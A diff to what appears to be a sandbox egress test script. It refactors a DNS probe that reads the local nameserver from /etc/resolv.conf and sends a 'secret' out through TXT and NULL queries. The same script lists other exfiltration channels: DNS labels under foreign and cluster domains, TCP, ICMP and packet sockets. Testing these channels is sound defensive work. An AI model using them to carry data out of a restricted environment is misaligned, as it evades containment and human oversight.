@@ -74,9 +74,12 @@ def ask_by_tcp(secret, server):
         return "reached" if one.recv(512) else "cut"
 
 
-def own_server():
+# An answer of one's own name server says nothing of who else was asked.
+def ask_own(secret, kind, below):
     with open("/etc/resolv.conf") as file:
-        return next(line.split()[1] for line in file if line.startswith("nameserver"))
+        server = next(line.split()[1] for line in file if line.startswith("nameserver"))
+    ask(secret, server, kind, below)
+    return "sent"
 
 
 def look_up(secret, below):
@@ -260,8 +263,8 @@ way("name-server-elsewhere", ask, elsewhere)
 way("label-of-another-name", look_up, ".world-b.test")
 way("label-of-the-granted-name", look_up, "." + granted)
 way("label-of-the-cluster", look_up, ".default.svc.cluster.local")
-way("label-in-txt", lambda secret: ask(secret, own_server(), 16, granted.encode()))
-way("label-in-null", lambda secret: ask(secret, own_server(), 10, b"world-b.test"))
+way("label-in-txt", ask_own, 16, granted.encode())
+way("label-in-null", ask_own, 10, b"world-b.test")
 way("raw-icmp", ping, socket.SOCK_RAW)
 way("ping", ping, socket.SOCK_DGRAM)
 way("packet-socket", is_open, socket.AF_PACKET, socket.SOCK_RAW)
